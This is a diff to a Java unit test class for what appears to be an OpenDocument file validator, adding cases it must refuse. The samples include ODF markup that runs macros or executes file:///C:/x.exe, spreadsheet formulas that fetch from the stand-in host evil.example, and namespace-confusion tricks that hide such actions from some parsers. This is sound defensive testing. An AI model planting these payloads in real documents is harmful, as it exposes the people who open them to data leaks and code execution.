@@ -7,6 +7,7 @@ import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.nio.charset.Charset;
+import java.util.Optional;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
@@ -76,6 +77,7 @@ class OdfDocumentsTest {
                 "MACRO!Module1!<office:script><x:library-embedded xmlns:x='y'><x:module x:name='Module1'/></x:library-embedded></office:script>",
                 "MACRO!Main!<text:execute-macro text:name='Main'/>",
                 "RUNNING_ACTION!file:///C:/x.exe!<presentation:event-listener presentation:action='execute' xlink:href='file:///C:/x.exe'/>",
+                "RUNNING_ACTION!verb!<x:command xmlns:x='urn:oasis:names:tc:opendocument:xmlns:animation:1.0' x:command='verb'/>",
                 "FETCHING_FORMULA!WEBSERVICE!<table:table-cell table:formula='of:=COM.MICROSOFT.WEBSERVICE(&quot;http://evil.example&quot;)'/>",
                 "REMOTE_WORKBOOK!http://evil.example/x.ods!<table:table-cell table:formula=\"of:=['http://evil.example/x.ods'#$Sheet1.A1]\"/>",
                 "FETCHING_FORMULA!'https://evil.example/i.ods'#$S.A1!<table:table-cell table:formula=\"of:=INDIRECT(&quot;'&quot;&amp;&quot;https://evil.example/i.ods'&quot;&amp;&quot;#$S.A1&quot;)\"/>",
@@ -113,6 +115,7 @@ class OdfDocumentsTest {
                 "<text:a xlink:href='mailto:a@example.org'/><text:a xlink:href='#place'/><text:a xlink:href='tel:+32'/>",
                 "<form:form form:datasource='' xlink:href='../../'><form:button form:name='x'/></form:form>",
                 "<presentation:event-listener presentation:action='next-page'/>",
+                "<x:command xmlns:x='urn:oasis:names:tc:opendocument:xmlns:animation:1.0' x:command='play'/>",
                 "<table:table-cell office:string-value='Macro: WEBSERVICE(x) DDE(1)'/>",
                 "<item xlink:href='.uno:Save'/><menuitem xlink:href='slot:5502'/>",
                 "<table:table-cell table:formula='of:=SUM([.A1:.B2])'/>",
@@ -173,6 +176,32 @@ class OdfDocumentsTest {
         passes(new WrittenText().declared(name, type, REMOTE_PICTURE.replace("http://evil.example", "Pictures")));
     }
 
+    @ParameterizedTest
+    @CsvSource({"Pictures/1,image/png", "layout-cache,application/binary", "x,''"})
+    void markupThatOnlySomeReadersWouldFindIsReadToo(String name, String type) {
+        byte[] mainframe = "<?xml version='1.0' encoding='IBM037'?><a/>".getBytes(Charset.forName("IBM037"));
+        refused(new WrittenText().declared(name, type, mainframe), Rule.MALFORMED_XML);
+        refused(new WrittenText().declared(name, type, "\ufeff\ufeff" + REMOTE_PICTURE), Rule.MALFORMED_XML);
+        refused(new WrittenText().part(name, "\u0001" + REMOTE_PICTURE), Rule.MALFORMED_XML);
+        passes(new WrittenText().declared(name, "application/binary", "Lo, no markup < here"));
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '!',
+            value = {
+                "INCONSISTENT!action!<presentation:event-listener x:action='show' presentation:action='execute'/>",
+                "INCONSISTENT!class-id!<draw:object-ole x:class-id='' draw:class-id='clsid:0002CE02-0000-0000-C000-000000000046'/>",
+                "INCONSISTENT!property-name!<form:property x:property-name='Label' form:property-name='ImageURL' form:string-value='//evil/x'/>",
+                "INCONSISTENT!name!<config-item x:name='a' name='ColorTableURL'>http://evil.example/x</config-item>",
+                "INCONSISTENT!!<office:binary-data><x:x>iVBORw0KGgo</x:x>0M8R4KGxGuEAAAAA</office:binary-data>",
+                "INCONSISTENT!!<config-item name='ColorTableURL'>http:<x:config-item>/</x:config-item>//evil.example/x</config-item>"
+            })
+    void whatOfficesPassOverHidesNothing(Rule rule, String subject, String body) {
+        Objection objection = refused(new WrittenText().body("<text:p xmlns:x='urn:x'>" + body + "</text:p>"), rule);
+        assertThat(objection.subject()).isEqualTo(Optional.ofNullable(subject));
+    }
+
     @Test
     void declaredXmlMustBeXml() {
         assertThat(refused(new WrittenText().part("styles.xml", "just text"), Rule.MALFORMED_XML)
@@ -226,6 +255,9 @@ class OdfDocumentsTest {
         passes(new WrittenText().declared("Basic/script-lc.xml", "text/xml", empty));
         passes(new WrittenText().declared("Dialogs/Standard/dialog-lb.xml", "text/xml", "<l:library xmlns:l='l'/>"));
         refused(new WrittenText().declared("Basic/script-lc.xml", "text/xml", linked), Rule.MACRO);
+        String twice = libraries.formatted(
+                "<library:library xmlns:y='y' y:href='' xlink:href='file:///C:/s' y:link='false'/>");
+        refused(new WrittenText().declared("Basic/script-lc.xml", "text/xml", twice), Rule.INCONSISTENT);
         String module = "<l:library xmlns:l='l'><l:element l:name='Module1'/></l:library>";
         assertThat(refused(new WrittenText().declared("Basic/Standard/script-lb.xml", "text/xml", module), Rule.MACRO)
                         .subject())
@@ -274,6 +306,10 @@ class OdfDocumentsTest {
                         .declared("x.bin", "text/xml", "<a/>")
                         .manifestEntry("<manifest:file-entry manifest:full-path='a' manifest:media-type='b'/>"
                                 + "<manifest:file-entry manifest:full-path='a' manifest:media-type='c'/>"),
+                Rule.INCONSISTENT);
+        refused(
+                new WrittenText()
+                        .manifestEntry("<manifest:file-entry xmlns:y='y' y:full-path='x' manifest:full-path='y'/>"),
                 Rule.INCONSISTENT);
         refused(new WrittenText().manifestEntry(ROOT_TYPE.formatted("spreadsheet")), Rule.INCONSISTENT);
         passes(new WrittenText().manifestEntry(ROOT_TYPE.formatted("text")));
